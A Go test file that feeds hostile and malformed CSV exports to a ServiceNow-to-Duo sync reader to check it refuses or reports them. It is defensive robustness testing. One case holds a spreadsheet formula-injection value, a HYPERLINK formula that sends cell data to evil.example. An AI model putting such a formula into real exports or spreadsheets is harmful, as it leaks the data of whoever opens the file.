package hostile

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"unicode/utf8"

	"github.com/duosync/duosync/source"
	dsync "github.com/duosync/duosync/sync"
)

// header is the default ServiceNow export header (DESIGN.md).
const header = "number,sys_id,approval,state,cat_item,requested_for.user_name,requested_for.email," +
	"requested_for.first_name,requested_for.last_name,requested_for.name,variables.duo_group,sys_updated_on\n"

// row is one good export row for RITM n.
func row(n int) string {
	return fmt.Sprintf("RITM%07d,%032x,Approved,Open,Duo MFA Enrollment,user%d,user%d@example.com,First,Last,First Last,MFA Users,2026-11-30 14:05:12\n",
		n, n, n, n)
}

func goodRows(from, n int) string {
	var b strings.Builder
	for i := from; i < from+n; i++ {
		b.WriteString(row(i))
	}
	return b.String()
}

type csvRead struct {
	reqs []source.Request
	res  source.CSVResult
	err  error
}

func readCSV(path string) csvRead {
	var out csvRead
	out.res, out.err = source.ReadCSV(context.Background(), []string{path}, source.CSVOptions{}, func(r source.Request) error {
		out.reqs = append(out.reqs, r)
		return nil
	})
	return out
}

func writeFile(dir, name, content string) string {
	p := filepath.Join(dir, name)
	if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
		panic(err)
	}
	return p
}

// refused checks a whole-file refusal: an error wrapping ErrRefused that
// names the file and says what it looks like, and nothing emitted.
func refused(path string, why ...string) error {
	r := readCSV(path)
	if len(r.reqs) > 0 {
		return fmt.Errorf("%d records emitted from a refused file", len(r.reqs))
	}
	if !errors.Is(r.err, source.ErrRefused) {
		return fmt.Errorf("error %v does not wrap ErrRefused", r.err)
	}
	if len(r.res.Files) != 1 || r.res.Files[0].Refused == "" {
		return fmt.Errorf("FileInfo does not say why it was refused: %+v", r.res.Files)
	}
	return wantErr(r.err, append([]string{path}, why...)...)
}

// problemAt checks that the read succeeded, that the rows other than the
// bad one were emitted intact, and that the bad one is a Problem naming the
// file, its line and (when col != "") its column.
func problemAt(r csvRead, path string, line int, reason, col string, wantGood int) error {
	if r.err != nil {
		return fmt.Errorf("the read failed as a whole: %v", r.err)
	}
	if len(r.reqs) != wantGood {
		return fmt.Errorf("%d records emitted, want the %d good ones", len(r.reqs), wantGood)
	}
	for _, p := range r.res.Problems {
		if p.File == path && p.Line == line && p.Reason == reason && p.Column == col {
			if !strings.Contains(p.Error(), path) || p.Detail == "" {
				return fmt.Errorf("problem %q does not say what is wrong", p.Error())
			}
			return allValid(r.reqs)
		}
	}
	return fmt.Errorf("no %s problem at %s:%d column %q; problems: %+v", reason, path, line, col, r.res.Problems)
}

// allValid checks what a source promises the engine: every emitted value is
// valid UTF-8 without NUL.
func allValid(reqs []source.Request) error {
	for _, r := range reqs {
		for k, v := range r.Fields {
			if !utf8.ValidString(v) || !utf8.ValidString(k) || strings.ContainsRune(v, 0) || strings.ContainsRune(v, '\uFEFF') {
				return fmt.Errorf("%s:%d: field %q = %q is not clean text", r.Origin.File, r.Origin.Line, k, clip(v))
			}
		}
	}
	return nil
}

// bigFile writes a file through a buffer: parts are written in order,
// each repeated count times.
func bigFile(dir, name string, parts ...any) string {
	p := filepath.Join(dir, name)
	f, err := os.Create(p)
	if err != nil {
		panic(err)
	}
	w := bufio.NewWriterSize(f, 1<<20)
	for i := 0; i < len(parts); i += 2 {
		s, n := parts[i].(string), parts[i+1].(int)
		for range n {
			w.WriteString(s)
		}
	}
	if err := w.Flush(); err != nil {
		panic(err)
	}
	if err := f.Close(); err != nil {
		panic(err)
	}
	return p
}

// bigField is the size of the giant-field inputs: 50 MB (10 MB under the
// race detector, still ten times the reader's field limit).
var bigField = 50 << 20 / sizeDivisor

// manyColumns is the width of the "million columns" inputs (a fifth of it
// under the race detector).
var manyColumns = 1_000_000 / sizeDivisor

func csvCases() []hostileCase {
	return []hostileCase{
		{area: "csv", name: "truncated-mid-quote",
			what: "an export cut off inside a quoted field",
			want: "an error naming the file and the line where the quote opened",
			run: func(dir string) error {
				p := writeFile(dir, "cut.csv", header+goodRows(1, 3)+`RITM0000004,x,Approved,Open,Duo MFA Enrollment,u4,u4@example.com,F,L,"Last, Fir`)
				r := readCSV(p)
				if r.err == nil {
					return problemAt(r, p, 5, source.ReasonBadQuoting, "", 3)
				}
				return wantErr(r.err, p, "5")
			}},
		{area: "csv", name: "binary",
			what: "random binary bytes saved as .csv (a ZIP header, NULs, high bytes)",
			want: "refused, naming the file",
			run: func(dir string) error {
				b := []byte("PK\x03\x04\x14\x00\x06\x00")
				for i := range 4096 {
					b = append(b, byte(i*7919>>3))
				}
				return refused(writeFile(dir, "bin.csv", string(b)))
			}},
		{area: "csv", name: "50MB-field",
			what: "a 50 MB unquoted field in the middle of a good export (generated; 10 MB under -race)",
			want: "that row is a field_too_large problem at its line and column; the others are read; memory stays flat",
			run: func(dir string) error {
				p := bigFile(dir, "big.csv", header+goodRows(1, 2)+"RITM0000003,x,Approved,Open,Duo MFA Enrollment,u3,u3@example.com,F,L,", 1,
					strings.Repeat("A", 1<<20), bigField>>20, ",MFA Users,2026-11-30 14:05:12\n"+goodRows(4, 2), 1)
				return problemAt(readCSV(p), p, 4, source.ReasonFieldTooLarge, "requested_for.name", 4)
			}},
		{area: "csv", name: "50MB-quoted-field",
			what: "a 50 MB quoted field full of newlines and doubled quotes (generated; 10 MB under -race)",
			want: "a field_too_large problem at the line the field starts on; the rows after it are still read",
			run: func(dir string) error {
				p := bigFile(dir, "bigq.csv", header+goodRows(1, 2)+`RITM0000003,x,Approved,Open,Duo MFA Enrollment,u3,u3@example.com,F,L,"`, 1,
					strings.Repeat("ab\"\"c\n", 1<<17), bigField/(6<<17), "\",MFA Users,2026-11-30 14:05:12\n"+goodRows(4, 2), 1)
				return problemAt(readCSV(p), p, 4, source.ReasonFieldTooLarge, "requested_for.name", 4)
			}},
		{area: "csv", name: "million-columns-row",
			what: "a data row with a million fields (generated; 200,000 under -race)",
			want: "that row is reported (field count or size) and skipped; the others are read",
			run: func(dir string) error {
				p := bigFile(dir, "wide.csv", header+goodRows(1, 2)+"RITM0000003", 1, strings.Repeat(",x", 1000), manyColumns/1000, "\n"+goodRows(4, 1), 1)
				r := readCSV(p)
				if err := problemAt(r, p, 4, source.ReasonFieldCount, "", 3); err != nil {
					return problemAt(r, p, 4, source.ReasonRecordTooLarge, "", 3)
				}
				return nil
			}},
		{area: "csv", name: "million-columns-header",
			what: "a header of a million unknown columns (generated; 200,000 under -race)",
			want: "refused: no ServiceNow columns, naming the file",
			run: func(dir string) error {
				p := filepath.Join(dir, "wideh.csv")
				f, err := os.Create(p)
				if err != nil {
					return err
				}
				w := bufio.NewWriter(f)
				for i := range manyColumns {
					if i > 0 {
						w.WriteByte(',')
					}
					fmt.Fprintf(w, "c%d", i)
				}
				w.WriteString("\n1" + strings.Repeat(",1", manyColumns-1) + "\n")
				if err := errors.Join(w.Flush(), f.Close()); err != nil {
					return err
				}
				return refused(p)
			}},
		{area: "csv", name: "invalid-utf8-every-field",
			what: "every field of every row holds bytes that are not UTF-8 (\\xff, \\xc3\\x28)",
			want: "read as Windows-1252 (a legacy export) or refused; no emitted value is invalid UTF-8",
			run: func(dir string) error {
				var b strings.Builder
				b.WriteString(header)
				for i := 1; i <= 3; i++ {
					b.WriteString(strings.Join([]string{fmt.Sprintf("RITM%07d", i), "\xff\xfe", "Approved\xc3\x28", "Open\xa0", "Duo\x80", "u\xe9",
						"j\xe9r\xf4me@example.com", "J\xe9", "L\xf4", "\xc3\x28", "MFA\xff", "2026\xff"}, ",") + "\n")
				}
				p := writeFile(dir, "latin.csv", b.String())
				r := readCSV(p)
				if errors.Is(r.err, source.ErrRefused) {
					return wantErr(r.err, p)
				}
				if r.err != nil {
					return fmt.Errorf("neither read nor refused: %v", r.err)
				}
				if r.res.Files[0].Encoding != "windows-1252" || len(r.reqs) != 3 {
					return fmt.Errorf("read %d records as %q", len(r.reqs), r.res.Files[0].Encoding)
				}
				if got := r.reqs[0].Get("requested_for.email"); got != "jérôme@example.com" {
					return fmt.Errorf("email decoded as %q", got)
				}
				return allValid(r.reqs)
			}},
		{area: "csv", name: "invalid-utf8-one-row",
			what: "a UTF-8 export with one row of stray non-UTF-8 bytes",
			want: "refused as mixed encodings, or that row reported; never mojibake passed on",
			run: func(dir string) error {
				p := writeFile(dir, "mixed.csv", header+goodRows(1, 2)+"RITM0000003,x,Approved,Open,Duo MFA Enrollment,u3,u3@example.com,Zoë,L\xf6we,Zoë L\xf6we,MFA Users,2026\n")
				r := readCSV(p)
				if r.err != nil {
					return wantErr(r.err, p)
				}
				if err := allValid(r.reqs); err != nil {
					return err
				}
				if len(r.reqs) == 3 && len(r.res.Problems) == 0 {
					return fmt.Errorf("all 3 rows read as %s with no problem", r.res.Files[0].Encoding)
				}
				return nil
			}},
		{area: "csv", name: "html-error-page",
			what: "ServiceNow's HTML login page saved as export.csv",
			want: "refused as HTML, naming the file",
			run: func(dir string) error {
				return refused(writeFile(dir, "export.csv", "<!DOCTYPE html>\n<html><head><title>Log in | ServiceNow</title></head>\n<body><form action=\"login.do\">User name, Password</form></body></html>\n"), "HTML")
			}},
		{area: "csv", name: "empty-file",
			what: "a zero-byte file",
			want: "refused as empty, naming the file",
			run:  func(dir string) error { return refused(writeFile(dir, "empty.csv", ""), "empty") }},
		{area: "csv", name: "header-only",
			what: "the header line and no rows",
			want: "refused (an export of nothing is suspicious), naming the file",
			run:  func(dir string) error { return refused(writeFile(dir, "header.csv", header)) }},
		{area: "csv", name: "semicolon-delimited",
			what: "a European Excel re-save: the same export with ';' as delimiter",
			want: "refused, naming the file and the delimiter",
			run: func(dir string) error {
				s := strings.ReplaceAll(header+goodRows(1, 3), ",", ";")
				return refused(writeFile(dir, "semi.csv", s), "semicolon")
			}},
		{area: "csv", name: "nul-bytes",
			what: "NUL bytes inside fields of an otherwise good export",
			want: "the file refused or the rows reported; no NUL reaches a request",
			run: func(dir string) error {
				p := writeFile(dir, "nul.csv", header+goodRows(1, 2)+"RITM0000003,x,Approved,Open,Duo MFA Enrollment,u\x003,u3@exa\x00mple.com,F,L,F L,MFA Users,2026\n"+goodRows(4, 1))
				r := readCSV(p)
				if r.err != nil {
					return wantErr(r.err, p)
				}
				if err := allValid(r.reqs); err != nil {
					return err
				}
				if len(r.reqs) != 3 {
					return fmt.Errorf("%d records emitted, want the 3 good ones (problems: %+v)", len(r.reqs), r.res.Problems)
				}
				return nil
			}},
		{area: "csv", name: "bom-in-the-middle",
			what: "two exports concatenated with cat: a second BOM and header mid-file",
			want: "the repeated header is not taken as a request; no U+FEFF reaches a value",
			run: func(dir string) error {
				p := writeFile(dir, "cat.csv", "\ufeff"+header+goodRows(1, 2)+"\ufeff"+header+goodRows(3, 2))
				r := readCSV(p)
				if r.err != nil {
					return wantErr(r.err, p)
				}
				for _, q := range r.reqs {
					if !strings.HasPrefix(q.Number(), "RITM") {
						return fmt.Errorf("%s:%d: the repeated header was read as request %q", p, q.Origin.Line, q.Number())
					}
				}
				if len(r.reqs) != 4 && len(r.res.Problems) == 0 {
					return fmt.Errorf("%d of 4 requests read and no problem reported", len(r.reqs))
				}
				return allValid(r.reqs)
			}},
		{area: "csv", name: "cr-only-line-endings",
			what: "an export with classic-Mac CR-only line endings",
			want: "either read row by row or refused saying the line endings are wrong; never one giant row",
			run: func(dir string) error {
				p := writeFile(dir, "cr.csv", strings.ReplaceAll(header+goodRows(1, 3), "\n", "\r"))
				r := readCSV(p)
				if r.err != nil {
					return wantErr(r.err, p, "line ending")
				}
				if len(r.reqs) != 3 {
					return fmt.Errorf("%d records read, want 3 (problems: %+v)", len(r.reqs), r.res.Problems)
				}
				if got := r.reqs[2].Get("sys_updated_on"); got != "2026-11-30 14:05:12" {
					return fmt.Errorf("last field read as %q", got)
				}
				return allValid(r.reqs)
			}},
		{area: "csv", name: "formula-escaped",
			what: "ServiceNow's formula escaping: a name exported as '=HYPERLINK(...) and a username '+1",
			want: "the escape undone in the field; the engine rejects the username, never writes it",
			run: func(dir string) error {
				p := writeFile(dir, "formula.csv", header+
					`RITM0000001,x,Approved,Open,Duo MFA Enrollment,u1,u1@example.com,F,L,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",MFA Users,2026`+"\n"+
					`RITM0000002,y,Approved,Open,Duo MFA Enrollment,u2,'+1 u2@example.com,F,L,F L,MFA Users,2026`+"\n")
				r := readCSV(p)
				if r.err != nil || len(r.reqs) != 2 {
					return fmt.Errorf("read %d records, err %v", len(r.reqs), r.err)
				}
				if got := r.reqs[0].Get("requested_for.name"); !strings.HasPrefix(got, "=HYPERLINK(") {
					return fmt.Errorf("formula escape not undone: %q", got)
				}
				b, err := dsync.NewBuilder(dsync.DefaultMapping(), dsync.Filter{})
				if err != nil {
					return err
				}
				for _, q := range r.reqs {
					if err := b.Add(q); err != nil {
						return err
					}
				}
				d := b.Finish()
				for _, u := range d.Users {
					if strings.ContainsAny(u.Username, "=+ ") {
						return fmt.Errorf("username %q passed to Duo", u.Username)
					}
				}
				if d.Counts.Invalid() != 1 {
					return fmt.Errorf("want the '+1 ...' row rejected; invalid %v", d.Invalid)
				}
				return nil
			}},
		{area: "csv", name: "duplicate-header-columns",
			what: "an export whose header names requested_for.email twice, with two different values",
			want: "refused or the rows reported; never one of the two values silently picked",
			run: func(dir string) error {
				h := strings.Replace(header, "sys_updated_on", "requested_for.email", 1)
				p := writeFile(dir, "dupcol.csv", h+"RITM0000001,x,Approved,Open,Duo MFA Enrollment,u1,u1@example.com,F,L,F L,MFA Users,evil@example.net\n")
				r := readCSV(p)
				if r.err != nil {
					return wantErr(r.err, p, "requested_for.email")
				}
				if len(r.reqs) != 0 {
					return fmt.Errorf("read with requested_for.email = %q", r.reqs[0].Get("requested_for.email"))
				}
				return nil
			}},
		{area: "csv", name: "utf16",
			what: "the export re-saved by Excel as UTF-16 LE (\"Unicode text\")",
			want: "refused, naming the file",
			run: func(dir string) error {
				s := header + goodRows(1, 2)
				b := []byte{0xff, 0xfe}
				for _, c := range s {
					b = append(b, byte(c), 0)
				}
				return refused(writeFile(dir, "utf16.csv", string(b)))
			}},
	}
}
